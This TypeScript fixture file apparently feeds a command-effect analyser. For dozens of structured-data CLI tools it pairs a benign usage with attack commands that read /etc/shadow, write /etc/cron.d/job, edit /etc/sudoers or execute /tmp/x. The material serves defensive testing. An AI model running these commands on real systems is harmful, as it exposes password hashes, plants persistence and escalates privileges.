import type { ExampleTable } from './example.ts'

export const structuredData1: ExampleTable = {
  dasel: {
    use: 'dasel -f data.json .name → read data.json',
    attack: 'dasel -f /etc/shadow -r yaml . → read /etc/shadow',
  },
  'dasel delete': {
    use: 'dasel delete -f data.json .name → edit data.json',
    attack:
      'dasel delete -f data.json -o /etc/cron.d/job .name → edit data.json; write /etc/cron.d/job',
  },
  fx: {
    use: 'fx data.json .name → read data.json',
    attack: 'fx /etc/shadow → read /etc/shadow',
  },
  gron: {
    use: 'gron data.json → read data.json',
  },
  hcl2json: {
    use: 'hcl2json main.tf → read main.tf',
    attack: 'hcl2json /etc/shadow → read /etc/shadow',
  },
  jc: {
    use: 'jc dig example.com → nothing',
  },
  jid: {
    use: 'jid data.json → read data.json',
  },
  jless: {
    use: 'jless data.json → read data.json',
    attack: 'jless --yaml /etc/shadow → read /etc/shadow',
  },
  jp: {
    use: 'jp -f data.json people[0].name → read data.json',
    attack: 'jp -e /etc/shadow -f data.json → read /etc/shadow; read data.json',
  },
  jq: {
    use: 'jq .name a.json → read a.json',
    attack: [
      'jq -R . /etc/shadow → read /etc/shadow',
      'jq -f /etc/shadow a.json → read /etc/shadow; read a.json',
    ],
  },
  jqp: {
    use: 'jqp -f data.json → read data.json',
  },
  json2yaml: {
    use: 'json2yaml data.json → read data.json',
    attack: 'json2yaml /etc/shadow → read /etc/shadow',
  },
  json_xs: {
    use: 'json_xs -f json -t yaml → nothing',
    attack: 'json_xs -e \'system("/tmp/x")\' → run /tmp/x',
  },
  jsonpp: {
    use: 'jsonpp data.json → read data.json',
  },
  yaml2json: {
    use: 'yaml2json data.yaml → read data.yaml',
    attack: 'yaml2json /etc/shadow → read /etc/shadow',
  },
  yq: {
    use: 'yq --from-file=names.yq a.yaml → read names.yq',
    attack: [
      'yq --from-file=/etc/shadow a.yaml → read /etc/shadow',
      'yq . a.yaml --split-exp-file=/etc/shadow → read /etc/shadow',
    ],
  },
  augtool: {
    use: 'augtool print /files/etc/hosts → read /etc/hosts',
    attack: [
      'augtool print /files/etc/shadow → read /etc/shadow',
      'augtool set /files/etc/sudoers/spec/user ann → write /etc/sudoers',
      'augtool -I /tmp/lenses print /files/etc/hosts → load /tmp/lenses',
    ],
  },
  'cue eval': {
    use: 'cue eval config.cue -o config.json → write config.json',
    attack: 'cue eval job.cue -e line --out text -o /etc/cron.d/job → write /etc/cron.d/job',
  },
  'cue export': {
    use: 'cue export config.cue -o config.json → write config.json',
    attack: 'cue export job.cue -e line --out text -o /etc/cron.d/job → write /etc/cron.d/job',
  },
  'cue import': {
    use: 'cue import data.yaml -o data.cue → write data.cue',
    attack: 'cue import data.yaml -o /etc/cron.d/job → write /etc/cron.d/job',
  },
  dhall: {
    use: 'dhall --file config.dhall → read config.dhall',
    attack: [
      'dhall --file /etc/shadow → read /etc/shadow',
      'dhall text --file job.dhall --output /etc/cron.d/job → read job.dhall; write /etc/cron.d/job',
    ],
  },
  'dhall-to-json': {
    use: 'dhall-to-json --file config.dhall --output config.json → read config.dhall; write config.json',
    attack: [
      'dhall-to-json --file /etc/shadow → read /etc/shadow',
      'dhall-to-json --file job.dhall --output /etc/cron.d/job → read job.dhall; write /etc/cron.d/job',
    ],
  },
  'dhall-to-yaml': {
    use: 'dhall-to-yaml --file config.dhall --output config.yaml → read config.dhall; write config.yaml',
    attack: [
      'dhall-to-yaml --file /etc/shadow → read /etc/shadow',
      'dhall-to-yaml --file job.dhall --output /etc/cron.d/job → read job.dhall; write /etc/cron.d/job',
    ],
  },
  jsonnet: {
    use: 'jsonnet config.jsonnet → read config.jsonnet',
    attack: [
      'jsonnet /etc/shadow → read /etc/shadow',
      'jsonnet -S -o /etc/cron.d/job job.jsonnet → read job.jsonnet; write /etc/cron.d/job',
    ],
  },
  jsonnetfmt: {
    use: 'jsonnetfmt config.jsonnet → read config.jsonnet',
    attack: 'jsonnetfmt -o /etc/cron.d/job job.jsonnet → read job.jsonnet; write /etc/cron.d/job',
  },
  ytt: {
    use: 'ytt -f config.yml --data-values-file=values.yml → read config.yml; read values.yml',
  },
  basex: {
    use: "basex -i data.xml 'count(//item)' → read data.xml",
    attack: [
      'basex "proc:system(\'/tmp/x\')" → run /tmp/x',
      "basex -i job.xml -o /etc/cron.d/job 'string(//line)' → read job.xml; write /etc/cron.d/job",
    ],
  },
  htmlq: {
    use: 'htmlq -f page.html --text h1 → read page.html',
    attack: [
      'htmlq -f /etc/shadow --text body → read /etc/shadow',
      'htmlq -f page.html -o /etc/cron.d/job pre → read page.html; write /etc/cron.d/job',
    ],
  },
  pup: {
    use: 'pup -f page.html title → read page.html',
    attack: 'pup -f /etc/shadow body → read /etc/shadow',
  },
  saxon: {
    use: 'saxon -o page.html doc.xml style.xsl → read doc.xml; read style.xsl; write page.html',
    attack:
      'saxon -o /etc/cron.d/job job.xml text.xsl → read job.xml; read text.xsl; write /etc/cron.d/job',
  },
  tidy: {
    use: [
      'tidy page.html → read page.html',
      'tidy -m index.html → read index.html; write index.html',
    ],
    attack: [
      'tidy /etc/shadow → read /etc/shadow',
      'tidy -o /etc/cron.d/job page.html → read page.html; write /etc/cron.d/job',
    ],
  },
  xalan: {
    use: 'xalan -in doc.xml -xsl style.xsl -out page.html → read doc.xml; read style.xsl; write page.html',
    attack:
      'xalan -in job.xml -xsl text.xsl -out /etc/cron.d/job → read job.xml; read text.xsl; write /etc/cron.d/job',
  },
  xidel: {
    use: 'xidel https://example.org/ -e //title → fetch https://example.org/',
    attack: [
      'xidel https://example.org/ --extract-file=/etc/shadow → read /etc/shadow; fetch https://example.org/',
      'xidel https://example.org/job --download=/etc/cron.d/job → fetch https://example.org/job; write /etc/cron.d/job',
    ],
  },
  xmllint: {
    use: 'xmllint --noout doc.xml → read doc.xml',
    attack: [
      'xmllint /etc/shadow → read /etc/shadow',
      'xmllint --schema /etc/shadow doc.xml → read /etc/shadow; read doc.xml',
    ],
  },
  'xmlstarlet c14n': {
    use: 'xmlstarlet c14n doc.xml → read doc.xml',
    attack: 'xmlstarlet c14n /etc/shadow → read /etc/shadow',
  },
  'xmlstarlet ed': {
    use: 'xmlstarlet ed -d //draft doc.xml → read doc.xml',
    attack: 'xmlstarlet ed -d //draft /etc/shadow → read /etc/shadow',
  },
  'xmlstarlet el': {
    use: 'xmlstarlet el doc.xml → read doc.xml',
    attack: 'xmlstarlet el /etc/shadow → read /etc/shadow',
  },
  'xmlstarlet fo': {
    use: 'xmlstarlet fo doc.xml → read doc.xml',
    attack: 'xmlstarlet fo --recover /etc/shadow → read /etc/shadow',
  },
  'xmlstarlet pyx': {
    use: 'xmlstarlet pyx doc.xml → read doc.xml',
    attack: 'xmlstarlet pyx /etc/shadow → read /etc/shadow',
  },
  'xmlstarlet sel': {
    use: 'xmlstarlet sel -t -v //name doc.xml → read doc.xml',
    attack: 'xmlstarlet sel -t -v / /etc/shadow → read /etc/shadow',
  },
  'xmlstarlet tr': {
    use: 'xmlstarlet tr style.xsl doc.xml → read style.xsl; read doc.xml',
    attack: 'xmlstarlet tr style.xsl /etc/shadow → read style.xsl; read /etc/shadow',
  },
  'xmlstarlet val': {
    use: 'xmlstarlet val -s schema.xsd doc.xml → read schema.xsd; read doc.xml',
    attack: [
      'xmlstarlet val -e /etc/shadow → read /etc/shadow',
      'xmlstarlet val -e -s /etc/shadow doc.xml → read /etc/shadow; read doc.xml',
    ],
  },
  xq: {
    use: 'xq .feed.title feed.xml → read feed.xml',
  },
  xqilla: {
    use: 'xqilla -i doc.xml titles.xq → read doc.xml; read titles.xq',
    attack:
      'xqilla -i job.xml -o /etc/cron.d/job line.xq → read job.xml; read line.xq; write /etc/cron.d/job',
  },
  xsltproc: {
    use: 'xsltproc style.xsl doc.xml → read style.xsl; read doc.xml',
    attack: [
      'xsltproc style.xsl /etc/shadow → read style.xsl; read /etc/shadow',
      'xsltproc -o /etc/cron.d/job text.xsl job.xml → read text.xsl; read job.xml; write /etc/cron.d/job',
    ],
  },
  csvclean: {
    use: 'csvclean orders.csv → read orders.csv',
    attack: 'csvclean /etc/shadow → read /etc/shadow',
  },
  csvcut: {
    use: 'csvcut -c name,price orders.csv → read orders.csv',
    attack: 'csvcut -d : -c 1,2 /etc/shadow → read /etc/shadow',
  },
  csvformat: {
    use: 'csvformat -T orders.csv → read orders.csv',
    attack: 'csvformat -d : /etc/shadow → read /etc/shadow',
  },
  csvgrep: {
    use: 'csvgrep -c name -m tea orders.csv → read orders.csv',
    attack: [
      'csvgrep -d : -c 1 -r . /etc/shadow → read /etc/shadow',
      'csvgrep -c 1 -f /etc/shadow orders.csv → read /etc/shadow; read orders.csv',
    ],
  },
  csvjoin: {
    use: 'csvjoin -c id orders.csv people.csv → read orders.csv; read people.csv',
    attack: 'csvjoin /etc/shadow people.csv → read /etc/shadow; read people.csv',
  },
  csvjson: {
    use: 'csvjson orders.csv → read orders.csv',
    attack: 'csvjson -d : /etc/shadow → read /etc/shadow',
  },
  csvlook: {
    use: 'csvlook orders.csv → read orders.csv',
    attack: 'csvlook -d : /etc/shadow → read /etc/shadow',
  },
  csvsort: {
    use: 'csvsort -c price orders.csv → read orders.csv',
    attack: 'csvsort -d : /etc/shadow → read /etc/shadow',
  },
  csvsql: {
    use: "csvsql --query 'select count(*) from orders' orders.csv → read orders.csv",
    attack: [
      "csvsql -d : --query 'select * from shadow' /etc/shadow → read /etc/shadow",
      'csvsql --db mysql://db/shop --insert --before-insert="select load_file(\'/etc/shadow\')" orders.csv → read /etc/shadow; read orders.csv',
    ],
    unclear: [`csvsql --db postgresql://db/core --overwrite --insert a.csv → what is lost with it`],
  },
  csvstack: {
    use: 'csvstack may.csv june.csv → read may.csv; read june.csv',
    attack: 'csvstack -d : /etc/shadow → read /etc/shadow',
  },
  csvstat: {
    use: 'csvstat orders.csv → read orders.csv',
    attack: 'csvstat -d : /etc/shadow → read /etc/shadow',
  },
  'csvtool call': {
    use: 'csvtool call echo orders.csv → read orders.csv',
    attack: [
      'csvtool call /tmp/x orders.csv → run /tmp/x; read orders.csv',
      "csvtool call 'cat /etc/shadow;' orders.csv → read /etc/shadow; read orders.csv",
    ],
  },
  'csvtool cat': {
    use: 'csvtool cat may.csv june.csv → read may.csv; read june.csv',
    attack: [
      'csvtool cat /etc/shadow → read /etc/shadow',
      'csvtool cat job.csv -o /etc/cron.d/job → read job.csv; write /etc/cron.d/job',
    ],
  },
  'csvtool col': {
    use: 'csvtool col 1,3 orders.csv → read orders.csv',
    attack: [
      'csvtool -t : col 2 /etc/shadow → read /etc/shadow',
      'csvtool col 1 job.csv -o /etc/cron.d/job → read job.csv; write /etc/cron.d/job',
    ],
  },
  'csvtool drop': {
    use: 'csvtool drop 1 orders.csv → read orders.csv',
    attack: [
      'csvtool drop 1 /etc/shadow → read /etc/shadow',
      'csvtool drop 1 job.csv -o /etc/cron.d/job → read job.csv; write /etc/cron.d/job',
    ],
  },
  csvtool: {
    use: 'csvtool -o names.csv col 1 orders.csv → write names.csv',
    attack: 'csvtool -o /etc/cron.d/job cat job.csv → write /etc/cron.d/job',
  },
}
